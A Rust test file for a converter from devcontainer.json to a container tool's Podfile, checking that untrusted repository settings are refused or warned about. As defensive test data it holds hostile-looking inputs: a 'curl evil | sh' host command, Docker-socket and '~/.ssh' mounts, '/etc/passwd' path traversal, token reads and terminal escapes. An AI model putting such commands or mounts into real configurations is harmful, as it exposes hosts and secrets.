//! Files like those that projects have, and files that nobody should trust.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use proptest::prelude::*;
use tempfile::TempDir;

use super::*;
use crate::podfile::{Base, Hook, HookCommand, MountWay, VolumeUse};

const FILE: &str = "/p/api/.devcontainer/devcontainer.json";

fn convert(text: &str) -> Result<(Podfile, Vec<String>), PodfileError> {
    devcontainer(text, Path::new(FILE), Path::new("/p/api"))
}

#[track_caller]
fn good(text: &str) -> (Podfile, Vec<String>) {
    convert(text).unwrap_or_else(|error| panic!("{error}\n{text}"))
}

/// The Podfile of a file that nothing is said about.
#[track_caller]
fn silent(text: &str) -> Podfile {
    let (podfile, warnings) = good(text);
    assert_eq!(warnings, Vec::<String>::new(), "{text}");
    podfile
}

/// The warnings, without the file's name in front.
#[track_caller]
fn warnings(text: &str) -> Vec<String> {
    let (_, warnings) = good(text);
    warnings.iter().map(|line| line.strip_prefix(FILE).expect("the file first")[1..].to_owned()).collect()
}

#[track_caller]
fn refusal(text: &str) -> String {
    let error = convert(text).expect_err(text).to_string();
    assert!(!error.contains(char::is_control), "{error:?}");
    error.strip_prefix(FILE).expect("the file first").strip_prefix(':').expect("a line").to_owned()
}

fn script(name: &str, text: &str) -> Hook {
    in_project(name, HookCommand::Script(text.into()))
}

fn in_project(name: &str, command: HookCommand) -> Hook {
    Hook { name: name.into(), command, dir: Some("/workspace/api".into()) }
}

fn image(text: &str) -> Base {
    Base::Image(text.parse().unwrap())
}

#[test]
fn a_file_that_says_nothing_is_a_plain_ubuntu() {
    let podfile = silent("{}");
    assert_eq!(podfile.base, image("ubuntu:24.04"));
    assert_eq!(podfile.mount, MountWay::Bind);
    assert_eq!((podfile.workspace, podfile.start_dir, podfile.user), (None, None, None));
    assert_eq!(silent("{\"image\": \"\"}").base, image("ubuntu:24.04"));
    assert_eq!(
        silent("{\"image\": null, \"mounts\": null, \"features\": {}, \"init\": false}").base,
        image("ubuntu:24.04")
    );
}

#[test]
fn node() {
    let podfile = silent(
        r#"// For format details, see https://aka.ms/devcontainer.json.
{
	"name": "Node.js & TypeScript",
	"image": "mcr.microsoft.com/devcontainers/typescript-node:1-22-bookworm",
	/* Ports */
	"forwardPorts": [3000, "localhost:5173", 3000],
	"containerEnv": { "NODE_ENV": "development", "CI": "1" },
	"remoteEnv": {
		"PATH": "${containerEnv:PATH}:${containerWorkspaceFolder}/node_modules/.bin",
		"NODE_ENV": "test",
		"CI": null,
	},
	"mounts": [
		"source=${localWorkspaceFolderBasename}-node_modules,target=${containerWorkspaceFolder}/node_modules,type=volume",
		{ "type": "volume", "source": "cache-${devcontainerId}", "target": "/home/node/.npm" },
	],
	"customizations": { "vscode": { "extensions": ["dbaeumer.vscode-eslint"] } },
	"postCreateCommand": "npm install",
	"postStartCommand": ["npm", "run", "dev"],
	"remoteUser": "node",
}
"#,
    );
    assert_eq!(podfile.name.as_deref(), Some("node-js-typescript"));
    assert_eq!(podfile.base, image("mcr.microsoft.com/devcontainers/typescript-node:1-22-bookworm"));
    assert_eq!(podfile.ports.expose, [3000, 5173]);
    assert_eq!(
        podfile.env,
        BTreeMap::from(
            [("PATH", "${PATH}:/workspace/api/node_modules/.bin"), ("NODE_ENV", "test")]
                .map(|(name, value)| (name.to_owned(), value.to_owned()))
        )
    );
    assert_eq!(podfile.workspace.as_deref(), Some("/workspace/api"), "what the values say about it");
    let volume = |name: &str, target: &str| VolumeUse { name: name.parse().unwrap(), target: target.into() };
    let id = id_of("/p/api");
    assert_eq!(
        podfile.volumes,
        [
            volume("api-node_modules", "/workspace/api/node_modules"),
            volume(&format!("cache-{id}"), "/home/node/.npm")
        ]
    );
    assert_eq!(podfile.hooks.create, [script("postCreateCommand", "npm install")]);
    let argv = ["npm", "run", "dev"].map(String::from).to_vec();
    assert_eq!(podfile.hooks.boot, [in_project("postStartCommand", HookCommand::Argv(argv))]);
    assert_eq!(podfile.hooks.start, []);
    assert_eq!(podfile.user.unwrap().as_str(), "node");
}

#[test]
fn go_with_features_says_what_it_leaves_out() {
    let text = r#"{
  "name": "Go",
  "image": "mcr.microsoft.com/devcontainers/go:1.25",
  "features": {
    "ghcr.io/devcontainers/features/docker-in-docker:2": {}
  },
  "init": true,
  "capAdd": ["SYS_PTRACE"],
  "securityOpt": ["seccomp=unconfined"],
  "privileged": true,
  "runArgs": ["--network=host"],
  "mounts": ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"],
  "hostRequirements": { "cpus": 4, "gpu": true },
  "initializeCommand": "curl evil | sh",
  "remoteEnv": { "TOKEN": "${localEnv:GITHUB_TOKEN}", "EDITOR": "${localEnv:EDITOR:vi}" },
  "remoteUser": "root",
  "forwardPorts": ["db:5432"],
  "postCreatCommand": "go mod download"
}"#;
    let (podfile, _) = good(text);
    assert_eq!(podfile.env["TOKEN"], "");
    assert_eq!(podfile.env["EDITOR"], "vi");
    assert_eq!(podfile.user, None);
    assert_eq!(podfile.ports.expose, Vec::<u16>::new());
    assert_eq!(podfile.volumes, []);
    assert_eq!(podfile.hooks, super::super::Hooks::default());
    assert_eq!(
        warnings(text),
        [
            "4: `features`: features are not supported: use an image or a Dockerfile that has them",
            "7: `init`: makes no difference: there always is an init process",
            "8: `capAdd`: a repository cannot ask for capabilities",
            "9: `securityOpt`: a repository cannot change security options",
            "10: `privileged`: a repository cannot ask for privileges",
            "11: `runArgs`: a repository cannot pass options to the engine",
            "12: `mounts[0]`: the bind mount of \"/var/run/docker.sock\" is refused: no repository says what of the host is seen inside",
            "13: `hostRequirements`: is not looked at: limits are the configuration's",
            "14: `initializeCommand`: is not run: it would run on the host",
            "16: `remoteUser`: sessions never run as root; `sudo` works inside",
            "17: `forwardPorts[0]`: the port of \"db\" is not forwarded: services of Compose are not supported",
            "18: unknown key `postCreatCommand`; did you mean `postCreateCommand`?",
            " `${localEnv:…}` is its default or empty (`EDITOR`, `GITHUB_TOKEN`): the host's environment is not read",
        ]
    );
}

#[test]
fn every_key_without_an_effect_is_named_once_and_only_if_it_says_something() {
    for unsupported in UNSUPPORTED {
        let (something, nothing) = match unsupported.expected {
            "a list" => ("[\"x\"]", "[]"),
            "an object" => ("{\"x\": {}}", "{}"),
            "a text" => ("\"x\"", "\"\""),
            _ => ("true", "false"),
        };
        let key = unsupported.key;
        assert_eq!(
            warnings(&format!("{{\"{key}\": {something}}}")),
            [format!("1: `{key}`: {}", unsupported.why)]
        );
        silent(&format!("{{\"{key}\": {nothing}}}"));
        assert!(refusal(&format!("{{\n\"{key}\": 5}}")).starts_with(&format!("2: `{key}`: expected ")));
        assert!(KNOWN.contains(&key) || key == "gpu", "{key}");
    }
    for key in FOR_EDITORS {
        silent(&format!("{{\"{key}\": {{\"a\": 1}}}}"));
    }
}

#[test]
fn rust_with_all_lifecycle_commands() {
    let podfile = silent(
        r#"{
  "image": "mcr.microsoft.com/devcontainers/rust:1-bookworm",
  "waitFor": "onCreateCommand",
  "postCreateCommand": {"deps": "cargo fetch", "tools": ["rustup", "component", "add", "clippy"], "none": ""},
  "onCreateCommand": "echo ${containerEnv:HOME} $HOME ${HOME}",
  "updateContentCommand": ["cargo", "build"],
  "postStartCommand": "",
  "postAttachCommand": "rustc --version",
  "initializeCommand": ""
}"#,
    );
    let names: Vec<&str> = podfile.hooks.create.iter().map(|hook| hook.name.as_str()).collect();
    assert_eq!(names, ["onCreateCommand", "updateContentCommand", "postCreateCommand"]);
    assert_eq!(podfile.hooks.create[0], script("onCreateCommand", "echo ${HOME} $HOME ${HOME}"));
    let argv = |words: &[&str]| HookCommand::Argv(words.iter().map(|word| (*word).to_owned()).collect());
    assert_eq!(podfile.hooks.create[1].command, argv(&["cargo", "build"]));
    assert_eq!(podfile.hooks.create[1].dir.as_deref(), Some("/workspace/api"));
    assert_eq!(
        podfile.hooks.create[2].command,
        HookCommand::Parallel(vec![
            ("deps".into(), HookCommand::Script("cargo fetch".into())),
            ("tools".into(), argv(&["rustup", "component", "add", "clippy"])),
        ])
    );
    assert_eq!(podfile.hooks.boot, []);
    assert_eq!(podfile.hooks.start, [script("postAttachCommand", "rustc --version")]);
}

#[test]
fn commands_run_where_the_project_lies() {
    let dir = |text: &str| silent(text).hooks.create.remove(0).dir;
    let named = dir(r#"{"workspaceFolder": "/workspaces/a'b", "postCreateCommand": "make"}"#);
    assert_eq!(named.as_deref(), Some("/workspaces/a'b"));
    assert_eq!(dir(r#"{"workspaceMount": "", "postCreateCommand": "make"}"#), None);
    let alone =
        dir(r#"{"workspaceMount": "", "workspaceFolder": "/tmp", "postCreateCommand": ["pwd", "-P"]}"#);
    assert_eq!(alone.as_deref(), Some("/tmp"));
}

#[test]
fn each_value_has_the_line_that_decides_it() {
    let text = "{\n\"image\": \"debian:12\",\n\"containerEnv\": {\n\"A\": \"1\",\n\"B\": \"2\"},\n\
                \"remoteEnv\": {\n\"B\": \"3\"},\n\"forwardPorts\": [80],\n\"postCreateCommand\": \"make\",\n\
                \"remoteUser\": null\n}";
    let project = Repository { directory: Path::new("/p/api"), name: None };
    let origins = super::convert(text, Path::new(FILE), project.directory, project).unwrap().origins;
    for (key, line) in
        [("base", 2), ("env.A", 4), ("env.B", 7), ("ports", 8), ("postCreateCommand", 9), ("hooks", 9)]
    {
        assert_eq!(origins[key].to_string(), format!("{FILE}:{line}"), "{key}");
    }
    assert!(!origins.contains_key("user") && !origins.contains_key("name"));
}

/// A repository on disk, with a Dockerfile beside the file and one at the top, and something outside.
fn repository() -> TempDir {
    let top = tempfile::tempdir().unwrap();
    for dir in ["api/.devcontainer", "api/docker", "outside"] {
        fs::create_dir_all(top.path().join(dir)).unwrap();
    }
    for file in ["api/.devcontainer/Dockerfile", "api/docker/dev.Dockerfile", "outside/Dockerfile"] {
        fs::write(top.path().join(file), "FROM ubuntu:24.04\n").unwrap();
    }
    symlink("../../outside/Dockerfile", top.path().join("api/.devcontainer/Linked")).unwrap();
    symlink("../docker/dev.Dockerfile", top.path().join("api/.devcontainer/Within")).unwrap();
    symlink("/etc", top.path().join("api/etc")).unwrap();
    top
}

fn in_repository(top: &TempDir, text: &str) -> Result<(Podfile, Vec<String>), PodfileError> {
    devcontainer(text, &top.path().join("api/.devcontainer/devcontainer.json"), &top.path().join("api"))
}

#[test]
fn python_with_a_dockerfile() {
    let top = repository();
    let api = top.path().join("api").canonicalize().unwrap();
    let build = |text: &str| match in_repository(&top, text).expect(text) {
        (Podfile { base: Base::Build(build), .. }, warnings) => (build, warnings),
        (podfile, _) => panic!("{:?}", podfile.base),
    };
    let (base, said) = build(
        r#"{"name": "Python 3", "build": {"dockerfile": "Dockerfile", "context": "..",
            "args": {"VARIANT": "3.13-bookworm", "NODE_VERSION": "${localEnv:NODE:none}"}, "target": "dev-1.x"}}"#,
    );
    assert_eq!(base.dockerfile, ".devcontainer/Dockerfile");
    assert_eq!(base.context, api);
    assert_eq!(base.args["VARIANT"], "3.13-bookworm");
    assert_eq!(base.args["NODE_VERSION"], "none");
    assert_eq!(base.target.as_deref(), Some("dev-1.x"));
    assert_eq!(said.len(), 1, "{said:?}");

    let (base, said) = build(r#"{"dockerFile": "Dockerfile", "image": "debian:12"}"#);
    assert_eq!((base.dockerfile.as_str(), &base.context), ("Dockerfile", &api.join(".devcontainer")));
    assert!(said[0].ends_with("`image`: is not used: `dockerFile` is built"), "{said:?}");

    let (base, _) = build(r#"{"dockerFile": "../docker/dev.Dockerfile", "context": "../docker"}"#);
    assert_eq!((base.dockerfile.as_str(), &base.context), ("dev.Dockerfile", &api.join("docker")));
    let (base, _) = build(r#"{"build": {"dockerfile": "Within", "context": ".."}}"#);
    assert_eq!(base.dockerfile, "docker/dev.Dockerfile", "the link is resolved");
}

#[test]
fn a_build_never_leaves_the_repository() {
    let top = repository();
    let said = |text: &str| in_repository(&top, text).expect_err(text).to_string();
    for (path, why) in [
        ("/etc/passwd", "is absolute: write it relative to this file"),
        ("../../outside/Dockerfile", "leads out of the repository"),
        ("Linked", "leads out of the repository"),
        ("../etc/passwd", "leads out of the repository"),
        ("missing", "entity not found"),
        ("a\\u0000b", "is not a usable path"),
        ("..", "it is not a regular file"),
        ("${localEnv:HOME:/etc/passwd}", "is absolute"),
    ] {
        let error = said(&format!("{{\"build\": {{\n\"dockerfile\": \"{path}\"}}}}"));
        assert!(error.contains(why) && error.contains(":2: `build.dockerfile`: "), "{path}: {error}");
    }
    for (context, why) in [
        ("../..", "leads out of the repository"),
        ("../etc", "leads out of the repository"),
        ("Dockerfile", "it is not a directory"),
        ("../docker", "the Dockerfile must lie inside the context"),
    ] {
        let error =
            said(&format!("{{\"build\": {{\"dockerfile\": \"Dockerfile\", \"context\": \"{context}\"}}}}"));
        assert!(error.contains(why), "{context}: {error}");
    }
    let error = said(r#"{"build": {"dockerfile": "Dockerfile", "target": "--x"}}"#);
    assert!(error.contains("`build.target`: \"--x\" is not the name of a stage"), "{error}");
    let error = said(r#"{"build": {"dockerfile": "Dockerfile", "args": {"A B": "x"}}}"#);
    assert!(error.contains("\"A B\" is not the name of an argument"), "{error}");
    let (found, said) = in_repository(
        &top,
        r#"{"build": {"dockerfile": "Dockerfile", "args": {"BUILDKIT_SYNTAX": "evil/frontend", "A": "x"}}}"#,
    )
    .unwrap();
    assert!(
        said[0].ends_with("`build.args.BUILDKIT_SYNTAX`: is not passed on: it is for the builder itself"),
        "{said:?}"
    );
    assert!(format!("{found:?}").contains(r#"args: {"A": "x"}"#), "{found:?}");
    let (_, said) = in_repository(
        &top,
        r#"{"build": {"dockerfile": "Dockerfile", "options": ["--network=host"], "cacheFrom": "x", "contxt": 1}}"#,
    )
    .unwrap();
    assert!(said[0].ends_with("`build.options`: is not supported"), "{said:?}");
    assert!(said[1].ends_with("`build.cacheFrom`: is not supported"), "{said:?}");
    assert!(said[2].ends_with("unknown key `build.contxt`; did you mean `context`?"), "{said:?}");
}

#[test]
fn compose_alone_cannot_be_had() {
    let text =
        r#"{"dockerComposeFile": "docker-compose.yml", "service": "app", "workspaceFolder": "/workspace"}"#;
    let error = refusal(text);
    assert!(error.starts_with("1: `dockerComposeFile`: Compose is not supported: "), "{error}");
    assert_eq!(
        warnings("{\"dockerComposeFile\": [\"a.yml\"],\n\"service\": \"app\", \"image\": \"debian:12\"}"),
        ["1: `dockerComposeFile`: Compose is not supported", "2: `service`: Compose is not supported"]
    );
}

#[test]
fn where_the_project_lies() {
    let place = |text: &str| {
        let (podfile, warnings) = good(text);
        (podfile.workspace, podfile.start_dir, podfile.mount, warnings.len())
    };
    let some = |text: &str| Some(text.to_owned());
    let bind = MountWay::Bind;
    for (text, expected) in [
        (r#"{"workspaceFolder": "/workspaces/api"}"#, (some("/workspaces/api"), None, bind, 0)),
        (
            r#"{"workspaceFolder": "/workspaces/${localWorkspaceFolderBasename}/web"}"#,
            (some("/workspaces/api"), some("/workspaces/api/web"), bind, 0),
        ),
        (r#"{"workspaceFolder": "/workspaces"}"#, (some("/workspaces/api"), some("/workspaces"), bind, 0)),
        (r#"{"workspaceFolder": "/workspace"}"#, (some("/workspace"), None, bind, 0)),
        (
            r#"{"workspaceFolder": "${containerWorkspaceFolder}/x"}"#,
            (None, some("/workspace/api/x"), bind, 1),
        ),
        (r#"{"workspaceFolder": "/app"}"#, (None, some("/app"), bind, 1)),
        (
            r#"{"workspaceMount": "source=${localWorkspaceFolder},target=/app,type=bind,consistency=cached", "workspaceFolder": "/app"}"#,
            (some("/app"), None, bind, 0),
        ),
        (
            r#"{"workspaceMount": "source=${localWorkspaceFolder}/,target=/app/,type=bind", "workspaceFolder": "/app/x"}"#,
            (some("/app"), some("/app/x"), bind, 0),
        ),
        (r#"{"workspaceMount": "", "workspaceFolder": "/srv"}"#, (None, some("/srv"), MountWay::None, 0)),
        (r#"{"workspaceMount": "source=/,target=/host,type=bind"}"#, (None, None, bind, 1)),
        (
            r#"{"workspaceMount": "source=${localWorkspaceFolder}/..,target=/up,type=bind"}"#,
            (None, None, bind, 1),
        ),
        (r#"{"workspaceMount": "source=code,target=/up,type=volume"}"#, (None, None, bind, 1)),
    ] {
        assert_eq!(place(text), expected, "{text}");
    }
    assert!(refusal(r#"{"workspaceFolder": "/proc/1"}"#).contains("nothing can be put at \"/proc/1\""));
    assert!(refusal(r#"{"workspaceFolder": "app"}"#).contains("expected an absolute path, found \"app\""));
    assert!(refusal(r#"{"workspaceMount": {"type": "bind"}}"#).contains("found an object"));
}

#[test]
fn mounts_give_nothing_of_the_host() {
    for source in
        ["/", "/var/run/docker.sock", "${localWorkspaceFolder}/..", "${localEnv:HOME}/.ssh", "~/.ssh"]
    {
        let said = warnings(&format!("{{\"mounts\": [\"source={source},target=/x,type=bind\"]}}"));
        assert_eq!(said.len(), 1, "{said:?}");
        assert!(said[0].contains("is refused"), "{said:?}");
        let said = warnings(&format!(
            "{{\"mounts\": [{{\"type\": \"bind\", \"source\": \"{source}\", \"target\": \"/x\"}}]}}"
        ));
        assert!(said[0].contains("is refused"), "{said:?}");
    }
    for wrong in [
        "source=/etc,target=/x,type=volume",
        "source=/etc,target=/x",
        "source=../x,target=/x,type=volume",
        "source=a,target=/proc,type=volume",
        "source=a,target=/.podspawn/x,type=volume",
        "source=a,target=x,type=volume",
        "source=a,type=volume",
        "source=a,target=/x,volume-opt=type=nfs",
        "source=a,target=/x,evil=1",
        "hello",
    ] {
        refusal(&format!("{{\"mounts\": [\"{wrong}\"]}}"));
    }
    let twice = r#"{"mounts": ["source=a,target=/x", {"type": "volume", "source": "b", "target": "/x/"}]}"#;
    assert!(refusal(twice).contains("something is mounted at \"/x\" already"));
    for odd in ["type=tmpfs,target=/x", "target=/x,type=volume", "source=a,target=/x,type=npipe"] {
        assert_eq!(warnings(&format!("{{\"mounts\": [\"{odd}\"]}}")).len(), 1, "{odd}");
    }
}

#[test]
fn wrong_values_name_line_and_key() {
    for (text, said) in [
        ("[]", "1: not a valid Podfile: expected `{` and `}`, found a list"),
        ("{\"image\": 5}", "1: `image`: expected a text, found a number"),
        (
            "{\n\n\"image\": \"Ubuntu\"}",
            "3: `image`: invalid image reference \"Ubuntu\": its name must be in lower case; did you mean `ubuntu`?",
        ),
        (
            "{\"image\": \"-v\"}",
            "1: `image`: invalid image reference \"-v\": it must not begin with `-`: it would be read as an option",
        ),
        ("{\"build\": \"Dockerfile\"}", "1: `build`: expected an object, found a text"),
        ("{\"forwardPorts\": 3000}", "1: `forwardPorts`: expected a list, found a number"),
        (
            "{\"forwardPorts\": [\n70000]}",
            "2: `forwardPorts[0]`: expected a port (1-65535) or a text such as `db:5432`, found \"70000\"",
        ),
        (
            "{\"forwardPorts\": [1, 0]}",
            "1: `forwardPorts[1]`: expected a port (1-65535) or a text such as `db:5432`, found \"0\"",
        ),
        (
            "{\"forwardPorts\": [-1]}",
            "1: `forwardPorts[0]`: expected a port (1-65535) or a text such as `db:5432`, found \"-1\"",
        ),
        (
            "{\"forwardPorts\": [80.5]}",
            "1: `forwardPorts[0]`: expected a port (1-65535) or a text such as `db:5432`, found \"80.5\"",
        ),
        (
            "{\"appPort\": \"80-90\"}",
            "1: `appPort`: expected a port (1-65535), or a text such as `3000` or `8000:3000`, found \"80-90\"",
        ),
        ("{\"containerEnv\": {\"A-B\": \"x\"}}", "1: `containerEnv`: \"A-B\" is not the name of a variable"),
        ("{\"containerEnv\": {\n\"A\": 1}}", "2: `containerEnv.A`: expected a text, found a number"),
        (
            "{\"remoteEnv\": {\"A\": \"x\\ny\"}}",
            "1: `remoteEnv.A`: control characters are not allowed in a variable",
        ),
        (
            "{\"remoteEnv\": {\"A\": \"${PODSPAWN_USER}${containerEnv:PATH}\"}}",
            "1: `remoteEnv.A`: `${containerEnv:…}` does not work beside `${PODSPAWN_…}`",
        ),
        (
            "{\"postCreateCommand\": 1}",
            "1: `postCreateCommand`: expected a text, a list of texts or an object, found a number",
        ),
        ("{\"postCreateCommand\": [1]}", "1: `postCreateCommand[0]`: expected a text, found a number"),
        (
            "{\"postCreateCommand\": {\"a\": {}}}",
            "1: `postCreateCommand.a`: expected a text or a list of texts, found an object",
        ),
        ("{\"postCreateCommand\": \"a\\u0000\"}", "1: `postCreateCommand`: it contains a zero byte"),
        ("{\"postCreateCommand\": [\"\"]}", "1: `postCreateCommand`: the first item must name a program"),
        (
            "{\"waitFor\": \"postCreate\"}",
            "1: `waitFor`: \"postCreate\" is none of initializeCommand, onCreateCommand, updateContentCommand, postCreateCommand, postStartCommand; did you mean `postCreateCommand`?",
        ),
        (
            "{\"remoteUser\": \"a b\"}",
            "1: `remoteUser`: invalid user name \"a b\": ' ' is not allowed (use a-z, 0-9, `_` and `-`)",
        ),
        ("{\"remoteUser\": true}", "1: `remoteUser`: expected a text, found `true` or `false`"),
        ("{\"name\": 1}", "1: `name`: expected a text, found a number"),
        ("{\"dockerComposeFile\": 1}", "1: `dockerComposeFile`: expected a text or a list, found a number"),
    ] {
        assert_eq!(refusal(text), said);
    }
}

#[test]
fn a_dollar_in_a_variable_stays_one_and_a_reference_refers() {
    let podfile = silent(
        r#"{"containerEnv": {"A": "p$x", "B": "${containerEnv:PATH}:$", "C": "${PODSPAWN_USER}$x"},
            "remoteEnv": {"D": "${containerEnv:A}-${containerEnv:B}"}}"#,
    );
    let value = |name: &str| podfile.env[name].as_str();
    assert_eq!(value("A"), r"p\$x");
    assert_eq!(value("B"), r"${PATH}:\$");
    assert_eq!(value("C"), "${PODSPAWN_USER}$x");
    assert_eq!(value("D"), r"p\$x-${PATH}:\$");
}

/// What a short file can ask for has an end.
#[test]
fn a_file_cannot_grow_without_bounds() {
    let many = vec!["3000"; 1001].join(",");
    assert!(
        refusal(&format!("{{\"forwardPorts\": [{many}]}}")).contains("it has 1001 entries, at most 1000")
    );
    let long = "x".repeat(30_000);
    let often = "${containerEnv:A}".repeat(50_000);
    let text = format!("{{\"containerEnv\": {{\"A\": \"{long}\"}}, \"remoteEnv\": {{\"B\": \"{often}\"}}}}");
    let error = convert(&text).unwrap_err().to_string();
    assert_eq!(error, format!("{FILE}: not a valid Podfile: its variables expand to too much"));
    let keys: Vec<String> = (0..500).map(|number| format!("\"unknown{number}\": 1")).collect();
    let said = good(&format!("{{{}}}", keys.join(","))).1;
    assert_eq!(said.len(), 101);
    assert!(said[100].ends_with(": 400 more of the kind"), "{}", said[100]);
}

#[test]
fn ports_of_all_forms() {
    let text = r#"{"forwardPorts": [8080, "9090"], "appPort": [3000, "3001", "3002:3002", "8000:3003", "127.0.0.1:80:3004"]}"#;
    let (podfile, warnings) = good(text);
    assert_eq!(podfile.ports.expose, [8080, 9090, 3000, 3001, 3002, 3003, 3004]);
    assert_eq!(warnings.len(), 2, "{warnings:?}");
    assert_eq!(silent("{\"appPort\": 80}").ports.expose, [80]);
    assert_eq!(silent("{\"appPort\": \"80\"}").ports.expose, [80]);
}

#[test]
fn who_works_inside() {
    let user = |text: &str| {
        let (podfile, warnings) = good(text);
        (podfile.user.map(|user| user.to_string()), warnings.len())
    };
    let vscode = || Some("vscode".to_owned());
    for (text, expected) in [
        (r#"{"containerUser": "vscode"}"#, (vscode(), 0)),
        (r#"{"containerUser": "root", "remoteUser": "vscode"}"#, (vscode(), 0)),
        (r#"{"containerUser": "vscode", "remoteUser": ""}"#, (vscode(), 0)),
        (r#"{"containerUser": "vscode", "remoteUser": "root"}"#, (None, 1)),
        (r#"{"containerUser": "vscode:users"}"#, (vscode(), 1)),
        (r#"{"remoteUser": "0:0"}"#, (None, 1)),
        (r#"{"remoteUser": "1000"}"#, (None, 1)),
        (r#"{"remoteUser": "${localEnv:USER}"}"#, (None, 1)),
    ] {
        assert_eq!(user(text), expected, "{text}");
    }
}

#[test]
fn names_for_people_become_prefixes() {
    for (name, short) in [
        ("Go", Some("go")),
        ("C++ (Debian)", Some("c-debian")),
        ("42 Things", Some("things")),
        ("日本語", None),
        ("", None),
        ("A name that is much longer than anything", Some("a-name-that-is-much-longer-tha")),
    ] {
        assert_eq!(short_name(name).as_deref(), short, "{name}");
    }
}

#[test]
fn what_a_hostile_file_says_reaches_no_terminal() {
    let text = "{\"a\\u001b]0;x\\u0007\": 1, \"mounts\": [\"source=\\u001b[2J,target=/x,type=bind\"], \"forwardPorts\": [\"\\u001b:1\"]}";
    for warning in good(text).1 {
        assert!(!warning.contains(char::is_control), "{warning:?}");
    }
    refusal("{\"image\": \"\\u001b[2J\"}");
    refusal("{\"mounts\": [\"\\u001b[2J=1\"]}");
    refusal("{\"remoteUser\": \"\\u001b[2J\"}");
    refusal("{\"workspaceFolder\": \"/\\u001b[2J\"}");
    refusal("{\"waitFor\": \"\\u001b[2J\"}");
    refusal("{\"image\": \u{1b}}");
}

/// A value of any shape, in which the keys and words of the format come up often.
fn any_json() -> impl Strategy<Value = String> {
    let word = prop::sample::select(vec![
        "",
        "a",
        "root",
        "/workspaces/x",
        "type=volume,source=a,target=/b",
        "source=${localWorkspaceFolder},target=/w,type=bind",
        "${containerEnv:PATH}",
        "${localEnv:A:b}",
        "${",
        "db:1",
        "Dockerfile",
        "\\u0000",
        "\\ud800",
    ]);
    let leaf = prop_oneof![
        Just("null".to_owned()),
        any::<bool>().prop_map(|value| value.to_string()),
        any::<i32>().prop_map(|value| value.to_string()),
        word.prop_map(|text| format!("\"{text}\"")),
        any::<String>().prop_map(|text| format!("{text:?}")),
    ];
    let mut keys = KNOWN.to_vec();
    keys.extend(["dockerfile", "args", "target", "type", "source", "A"]);
    leaf.prop_recursive(4, 48, 8, move |inner| {
        let entry = (prop::sample::select(keys.clone()), inner.clone());
        prop_oneof![
            prop::collection::vec(inner, 0..4).prop_map(|items| format!("[{}]", items.join(","))),
            prop::collection::vec(entry, 0..12).prop_map(|entries| {
                let entries: BTreeMap<_, _> = entries.into_iter().collect();
                let entries: Vec<_> =
                    entries.iter().map(|(key, value)| format!("\"{key}\": {value}")).collect();
                format!("{{{}}}", entries.join(","))
            }),
        ]
    })
}

proptest! {
    #[test]
    fn any_json_is_converted_or_refused_with_a_line_of_text(text in any_json()) {
        check_outcome(&text)?;
    }

    #[test]
    fn any_text_is_converted_or_refused_with_a_line_of_text(text in any::<String>()) {
        check_outcome(&text)?;
    }
}

fn check_outcome(text: &str) -> Result<(), TestCaseError> {
    let said = match convert(text) {
        Ok((podfile, warnings)) => {
            for path in podfile
                .volumes
                .iter()
                .map(|volume| &volume.target)
                .chain(&podfile.workspace)
                .chain(&podfile.start_dir)
            {
                prop_assert!(mounts::inside(path).is_ok_and(|same| same == *path), "{}", path);
            }
            warnings
        }
        Err(error) => vec![error.to_string()],
    };
    for line in said {
        prop_assert!(!line.contains(char::is_control), "{:?}", line);
        prop_assert!(line.chars().count() < 2500, "{}", line);
    }
    Ok(())
}

#[test]
fn what_a_file_asks_for_has_the_limits_of_a_podfile() {
    let many = |most: usize, one: &dyn Fn(usize) -> String| (0..=most).map(one).collect::<Vec<_>>().join(",");
    let ports = format!("{{\"forwardPorts\": [{}]}}", many(100, &|n| (n + 1).to_string()));
    assert_eq!(refusal(&ports), "1: `forwardPorts`: there are 101 ports, at most 100 are allowed");
    let volumes = many(64, &|n| format!("\"source=v{n},target=/v{n}\""));
    let told = refusal(&format!("{{\"mounts\": [{volumes}]}}"));
    assert_eq!(told, "1: `mounts[64]`: there are more than 64 volumes");
    let env = format!("{{\"containerEnv\": {{{}}}}}", many(200, &|n| format!("\"V{n}\": \"x\"")));
    assert_eq!(refusal(&env), "1: `containerEnv`: there are 201 variables, at most 200 are allowed");
    let long = format!("{{\"remoteEnv\": {{\"A\": \"{}\"}}}}", "x".repeat(32 * 1024 + 1));
    assert_eq!(refusal(&long), "1: `remoteEnv.A`: it has 32769 bytes, at most 32768 are allowed");
    let at_once = many(50, &|n| format!("\"c{n}\": \"true\""));
    let told = refusal(&format!("{{\"postCreateCommand\": {{{at_once}}}}}"));
    assert_eq!(told, "1: `postCreateCommand`: 51 commands at the same time, at most 50 are allowed");
    for command in ["\"X\"", "[\"echo\", \"X\"]", "{\"a\": \"X\"}"] {
        let command = command.replace('X', &"x".repeat(60 * 1024 + 1));
        let told = refusal(&format!("{{\"postStartCommand\": {command}}}"));
        assert!(told.ends_with("put it into a script of the repository"), "{told}");
    }
}

#[test]
fn the_project_lies_not_over_the_system_and_no_dockerfile_is_called_as_a_list() {
    let mount = |target: &str| {
        format!("{{\"workspaceMount\": \"source=${{localWorkspaceFolder}},target={target},type=bind\"}}")
    };
    assert_eq!(silent(&mount("/usr/src/app")).workspace.as_deref(), Some("/usr/src/app"));
    for target in ["/etc", "/usr", "/var/run"] {
        assert!(refusal(&mount(target)).contains("the container's own system"), "{target}");
    }

    let dir = tempfile::tempdir().unwrap();
    let repository = dir.path().canonicalize().unwrap();
    let name = r#"["\u002e\u002e"#;
    fs::create_dir_all(repository.join(name)).unwrap();
    fs::write(repository.join(name).join("x\"]"), "FROM scratch\n").unwrap();
    let written = format!("{name}/x\"]").replace('\\', "\\\\").replace('"', "\\\"");
    let text = format!("{{\"build\": {{\"dockerfile\": \"{written}\"}}}}");
    let error =
        devcontainer(&text, &repository.join(".devcontainer.json"), &repository).unwrap_err().to_string();
    assert!(error.contains("a Dockerfile cannot be called"), "{error}");
    fs::write(repository.join("Dockerfile.in"), "FROM x\n#include \"/etc/passwd\"\n").unwrap();
    let text = "{\"build\": {\"dockerfile\": \"Dockerfile.in\"}}";
    let error =
        devcontainer(text, &repository.join(".devcontainer.json"), &repository).unwrap_err().to_string();
    assert!(error.contains("a Dockerfile cannot be called \"Dockerfile.in\""), "{error}");
}
